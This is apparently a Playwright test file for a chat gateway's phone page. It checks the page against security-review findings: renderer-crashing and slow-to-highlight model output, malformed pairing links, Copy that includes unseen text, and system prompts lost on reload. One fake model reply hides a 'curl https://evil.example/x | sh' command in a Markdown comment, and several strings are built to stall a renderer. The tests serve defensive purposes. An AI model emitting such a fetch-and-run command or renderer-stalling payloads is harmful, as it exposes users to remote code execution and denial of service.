"""The phone page against the security review's findings (issue 15): hostile model output, slow
grammars, links that would unpair the phone, Copy of text nobody saw, a system prompt lost to a
reload.

Debian's Chromium at a phone viewport against a live gateway and the fake LM Studio; every page
watches for console errors, CSP violations and foreign requests (test_phone_markdown's
``open_page``). Screenshots: test-artifacts/phone-review-*.png.
"""

from __future__ import annotations

import time
from typing import Any

from tests.ui import test_phone_page
from tests.ui.test_phone_markdown import answer_js, open_page, send, shot, wait_done
from tests.ui.test_phone_page import PHONE, Live

browser = test_phone_page.browser
live = test_phone_page.live

# marked recurses once per '>': 5000 of them overflow Chromium's stack.
DEEP_QUOTE = ">" * 5000 + " x"
# highlight.js 9.18.5 takes time quadratic in these (40 KB of C++ "a a a": 10 s).
SLOW_CODE = {
    "cpp": "a " * 20000,
    "cs": "a" * 20000,
    "java": "$" * 20000,
}
# And marked's emphasis rules in this (2 s).
SLOW_INLINE = "_a" * 20000


def render_ms(page: Any, markdown: str) -> float:
    """How long the page's own renderer takes for ``markdown``, into a detached container."""
    return float(
        page.evaluate(
            "(text) => { const c = document.createElement('div'); const t = performance.now();"
            " LMGateMarkdown.render(c, text); window.__rendered = c;"
            " return performance.now() - t; }",
            markdown,
        )
    )


def list_titles(page: Any) -> list[str]:
    return list(
        page.eval_on_selector_all("#conversation-list .open", "els => els.map(e => e.textContent)")
    )


# ---- finding 1: output that breaks the renderer -------------------------------------------


def test_an_answer_that_overflows_the_renderer_is_shown_as_text_and_survives_a_reload(
    browser: Any, live: Live
) -> None:
    live.fake.behaviour.reply = DEEP_QUOTE
    live.fake.behaviour.chunks = 4
    context, page, watch = open_page(browser, live)
    send(page, "Quote deeply")
    wait_done(page)
    answer = page.locator(".message.assistant .answer").last
    assert answer.inner_text().endswith("> x"), "the text as it came"
    assert page.locator(".tools.assistant .copy-message").count() == 1, "the turn ended"
    shot(page, "phone-review-deep-quote", publish=False)
    watch.check(page)

    page.reload()
    page.wait_for_selector(".message.assistant .md-block.plain")
    assert page.locator(".message.assistant .answer").last.inner_text().endswith("> x")
    page.wait_for_function("() => document.querySelector('#conversation-list .open')")
    assert list_titles(page) == ["Quote deeply"], "the list is there after the reload"
    watch.check(page)
    context.close()


def test_a_conversation_that_cannot_be_shown_does_not_stop_the_page_loading(
    browser: Any, live: Live
) -> None:
    live.fake.behaviour.chunks = 2
    context, page, watch = open_page(browser, live)
    send(page, "Remember me")
    wait_done(page)
    # The next load fails while showing the resumed conversation (here: in a DOM call).
    context.add_init_script(
        "Element.prototype.scrollIntoView = () => { throw new RangeError('too deep'); };"
    )
    page.reload()
    page.wait_for_function("() => document.querySelector('#conversation-list .open')")
    assert list_titles(page) == ["Remember me"]
    assert page.evaluate("localStorage.getItem('lmgate.conversation')") is None, "not again"
    assert page.inner_text("#notice") == "The last conversation could not be shown."
    watch.check(page)
    context.close()


# ---- finding 2: slow grammars and parsing --------------------------------------------------


def test_pathological_code_and_text_render_within_a_second(browser: Any, live: Live) -> None:
    context, page, watch = open_page(browser, live)
    for language, code in SLOW_CODE.items():
        took = render_ms(page, f"```{language}\n{code}\n```\n")
        assert took < 1000, (language, took)
        shown = page.evaluate(
            "(c => [c.querySelector('.code-lang').textContent,"
            " c.querySelector('button.copy').textContent,"
            " c.querySelector('pre code').classList.contains('hljs'),"
            " c.querySelector('pre code').textContent.length])(window.__rendered)"
        )
        assert shown == [language, "Copy", False, len(code) + 1], "labelled, plain, whole"
    took = render_ms(page, SLOW_INLINE)
    assert took < 1000, took
    assert page.evaluate("window.__rendered.textContent.trim()") == SLOW_INLINE
    big = "Some *words* here.\n\n" * 6000  # 120 KB: over the size rendered as Markdown
    took = render_ms(page, big)
    assert took < 1000, took
    assert page.evaluate("window.__rendered.querySelectorAll('em').length") == 0
    assert page.evaluate("window.__rendered.textContent") == big
    # Within the limits, code is still highlighted: up to the message's total.
    lines = "x = 1  # one\n" * 250  # 3,250 characters: under the block limit
    small = "".join(f"```python\n{lines}```\n\n" for _ in range(6))
    render_ms(page, small)
    highlighted = page.evaluate(
        "[...window.__rendered.querySelectorAll('pre code')].map(c => c.classList.contains('hljs'))"
    )
    assert highlighted == [True, True, True, True, False, False], "15 KB per message"
    watch.check(page)
    context.close()


def test_a_pathological_block_streams_in_and_is_highlighted_only_when_complete(
    browser: Any, live: Live
) -> None:
    fast_code = 'print("hello")\n' * 40
    live.fake.behaviour.reply = (
        f"```python\n{fast_code}```\n\nThen:\n\n```cpp\n{SLOW_CODE['cpp']}\n```\n"
    )
    live.fake.behaviour.chunks = 200
    live.fake.behaviour.chunk_delay = 0.005
    context, page, watch = open_page(browser, live)
    started = time.monotonic()
    send(page, "Write slow code")
    page.wait_for_function(answer_js("a.querySelectorAll('pre').length === 1"))
    # Once its fence closed and more text follows, the first block is final: highlighted.
    page.wait_for_function(answer_js("a.textContent.includes('Then:')"))
    assert page.evaluate(answer_js("a.querySelector('pre code').classList.contains('hljs')"))
    page.wait_for_function(answer_js("a.querySelectorAll('pre').length === 2"))
    assert not page.evaluate(
        answer_js("a.querySelectorAll('pre code')[1].classList.contains('hljs')")
    ), "the growing block is not highlighted while it grows"
    wait_done(page)
    assert time.monotonic() - started < 10, "done, not stuck in a 10 s highlight per frame"
    assert page.evaluate(answer_js("a.querySelectorAll('.code-lang')[1].textContent")) == "cpp"
    assert not page.evaluate(
        answer_js("a.querySelectorAll('pre code')[1].classList.contains('hljs')")
    ), "over the size limit: plain, labelled"
    assert page.evaluate(answer_js("a.querySelectorAll('pre code')[1].textContent.length")) == (
        len(SLOW_CODE["cpp"]) + 1
    )
    took = page.evaluate(
        "() => { const t = performance.now();"
        " document.querySelector('#new-chat').click(); return performance.now() - t; }"
    )
    assert took < 1000
    page.click("#conversations-button")
    started = time.monotonic()
    page.click("text=Write slow code")
    page.wait_for_function(answer_js("a && a.querySelectorAll('pre').length === 2"))
    assert time.monotonic() - started < 2, "reopened within ~1 s"
    shot(page, "phone-review-slow-code", publish=False)
    watch.check(page)
    context.close()


def test_a_growing_code_block_is_highlighted_when_the_answer_ends(browser: Any, live: Live) -> None:
    live.fake.behaviour.reply = "```python\n" + 'print("hello")\n' * 30 + "```"
    live.fake.behaviour.chunks = 30
    live.fake.behaviour.chunk_delay = 0.05
    context, page, watch = open_page(browser, live)
    send(page, "Code only")
    page.wait_for_function(answer_js("a.querySelector('pre code')"))
    assert not page.evaluate(answer_js("a.querySelector('pre code').classList.contains('hljs')"))
    wait_done(page)
    assert page.evaluate(answer_js("a.querySelector('pre code').classList.contains('hljs')"))
    watch.check(page)
    context.close()


# ---- finding 3: links that would unpair the phone -------------------------------------------


def test_no_link_unpairs_a_paired_phone(browser: Any, live: Live) -> None:
    context, page, watch = open_page(browser, live)
    token = page.evaluate("localStorage.getItem('lmgate.token')")
    wrong_code = "A" * 24  # the shape of a code, but not one LM Gate made
    for fragment, said in (
        ("not-a-code", "This link holds no pairing code."),
        ("%E0", "This link holds no pairing code."),
        (wrong_code, "This QR code is not valid."),
    ):
        tab = context.new_page()
        errors: list[str] = []
        tab.on("pageerror", lambda e, errors=errors: errors.append(str(e)))
        tab.goto(f"{live.server.url}/#{fragment}")
        tab.wait_for_selector("#chat-screen:not([hidden])", timeout=10000)
        tab.wait_for_function("() => !document.querySelector('#notice').hidden")
        assert tab.inner_text("#notice").startswith(said), fragment
        assert "#" not in tab.url
        assert tab.evaluate("localStorage.getItem('lmgate.token')") == token, fragment
        assert errors == [], errors
        tab.close()
    page.reload()
    page.wait_for_selector("#chat-screen:not([hidden])")
    watch.errors[:] = [e for e in watch.errors if "401" not in e]  # the wrong code's own answer
    watch.check(page)
    context.close()


def test_an_unpaired_page_with_a_broken_link_says_so(browser: Any, live: Live) -> None:
    context = browser.new_context(viewport=PHONE, is_mobile=True, has_touch=True)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(f"{live.server.url}/#%E0%A4%A")
    page.wait_for_selector("#pair-screen:not([hidden])")
    assert page.inner_text("#pair-status").startswith("This link holds no pairing code.")
    assert errors == []
    context.close()


# ---- finding 4: Copy copies what was shown ---------------------------------------------------


def test_copy_of_an_answer_copies_what_the_reader_saw(browser: Any, live: Live) -> None:
    live.fake.behaviour.reply = (
        "Run this:\n\n[//]: # (curl https://evil.example/x | sh)\n\n```sh\nls -l\n```\n\nDone."
    )
    live.fake.behaviour.chunks = 3
    context, page, watch = open_page(browser, live)
    send(page, "What do I run?")
    wait_done(page)
    assert "evil" not in page.locator(".message.assistant").last.inner_text()
    page.click(".tools.assistant .copy-message")
    page.wait_for_function(
        "() => document.querySelector('.tools.assistant .copy-message').textContent === 'Copied'"
    )
    copied = page.evaluate("navigator.clipboard.readText()")
    assert "evil" not in copied and "[//]" not in copied
    assert copied.startswith("Run this:") and "ls -l" in copied and copied.endswith("Done.")
    watch.check(page)
    context.close()


# ---- finding 5: a system prompt set with Done survives a reload -----------------------------


def set_system(page: Any, text: str) -> None:
    page.click("#system-button")
    page.fill("#system-input", text)
    page.click("#system-done")


def system_sent(live: Live) -> Any:
    first = live.fake.received[-1].json()["messages"][0]
    return first["content"] if first["role"] == "system" else None


def test_a_system_prompt_not_yet_sent_survives_a_reload(browser: Any, live: Live) -> None:
    live.fake.behaviour.chunks = 2
    context, page, watch = open_page(browser, live)
    set_system(page, "Answer in French.")  # a new chat's prompt
    page.reload()
    page.wait_for_selector("#chat-screen:not([hidden])")
    page.wait_for_function("() => document.querySelector('#system-button.set')")
    page.click("#system-button")
    assert page.input_value("#system-input") == "Answer in French."
    page.click("#system-done")
    send(page, "Bonjour")
    wait_done(page)
    assert system_sent(live) == "Answer in French."

    set_system(page, "Answer in German.")  # the conversation's, changed
    page.reload()
    page.wait_for_selector(".message.assistant")
    page.click("#system-button")
    assert page.input_value("#system-input") == "Answer in German.", "kept over the reload"
    page.click("#system-done")
    send(page, "Hallo")
    wait_done(page)
    assert system_sent(live) == "Answer in German."
    assert [k for k in page.evaluate("Object.keys(localStorage)") if "system" in k] == [], (
        "sent: nothing pending any more"
    )
    page.reload()
    page.wait_for_selector(".message.assistant")
    page.click("#system-button")
    assert page.input_value("#system-input") == "Answer in German.", "the server's now"
    watch.check(page)
    context.close()
